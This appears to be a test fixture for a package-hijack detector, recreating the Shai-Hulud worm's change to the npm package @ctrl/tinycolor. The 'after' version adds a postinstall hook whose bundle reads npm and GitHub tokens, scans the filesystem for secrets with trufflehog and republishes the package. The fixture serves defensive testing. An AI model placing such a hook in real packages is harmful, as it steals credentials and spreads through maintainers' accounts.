import { manifest } from '../pack-release.ts'
import type { Hijack } from './hijack.ts'

const code = 'exports.tinycolor = function (text) {\n  return { text: text }\n}\n'

/** September 2025, the worm Shai-Hulud: a bundle that ran after install, looked for secrets with another program, and published itself anew. */
export const tinycolor: Hijack = {
  name: '@ctrl/tinycolor',
  ecosystem: 'npm',
  from: '4.1.0',
  to: '4.1.1',
  before: { 'package.json': manifest(), 'index.js': code },
  after: {
    'package.json': manifest({ scripts: { postinstall: 'node bundle.js' } }),
    'index.js': code,
    'bundle.js': `var c=require("child_process"),h=require("https");var t=process.env.NPM_TOKEN||process.env.GITHUB_TOKEN;c.execSync("trufflehog filesystem / --json");h.request({hostname:"registry.npmjs.org",path:"/-/whoami"});c.execSync("npm publish --access public");${'var a=1;'.repeat(400)}\n`,
  },
  tells: /touches the package manager’s own files, tokens or publishing/,
}
